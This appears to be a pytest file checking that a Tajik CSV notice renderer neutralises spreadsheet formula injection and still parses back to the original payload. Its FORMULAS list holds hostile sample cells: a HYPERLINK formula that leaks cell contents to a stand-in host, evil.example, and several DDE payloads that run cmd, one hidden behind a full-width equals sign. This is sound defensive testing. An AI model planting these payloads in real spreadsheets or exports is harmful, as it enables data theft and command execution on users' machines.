"""Received text rendered into a Tajik CSV notice never starts a spreadsheet formula (issue 21,
item 11), whether Excel splits the file on the commas we write or on the semicolons of its locale;
and the notice still reads back to the same payload."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from adapters.tj import TajikAdapter, adapter
from adapters.tj.formula import TRIGGERS, neutralised, restored
from broker.core.catalogue import Payload, sample_payloads

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1dcmd|' /C calc'!A0",
    "Жильё в общежитиях;=cmd|' /C calc'!A0",
    "Жильё, =1+1 и другое,-2+3",
    "'=1+1 (written with an apostrophe already)",
]
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


@pytest.fixture
def tj(tmp_path: Path) -> TajikAdapter:
    return adapter(state_dir=tmp_path / "state")


def hostile(text: str) -> Payload:
    report = sample_payloads()["labour_market.report"]
    return report.model_validate({**report.model_dump(), "living_conditions": text})


def cells_as_any_excel_sees_them(rendered: bytes) -> list[str]:
    """Every piece a spreadsheet could take for a cell: the file split on commas, on semicolons and on
    line breaks without regard to quoting (a locale whose separator is not ours), a leading quote
    mark taken as the start of a quoted cell; and the properly parsed cells."""
    text = rendered.decode("utf-8-sig")
    pieces = [piece.lstrip('"') for piece in re.split(r"[,;\n]", text)]
    parsed = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return pieces + parsed


@pytest.mark.parametrize("fmt", ["csv-tg", "csv-ru"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_rendered_cell_starts_a_formula(tj: TajikAdapter, fmt: str, formula: str) -> None:
    payload = hostile(formula)
    rendered = tj.render(payload, fmt=fmt)

    for cell in cells_as_any_excel_sees_them(rendered):
        assert not (cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)), cell
    assert tj.parse(rendered, filename=f"notice.{fmt[:3]}") == [payload]


def test_plain_numbers_keep_their_sign_and_an_apostrophe_of_the_partner_survives() -> None:
    for number in ("-5", "+3.25", "-0.5"):
        assert neutralised(number) == number
    for text in ("'Ali", "''", "'", "a,'b", "x;'=1", "-", "=", "2025-01-17"):
        assert restored(neutralised(text)) == text
    assert restored("'Ali") == "'Ali"  # written by a person, not by us: kept as it is
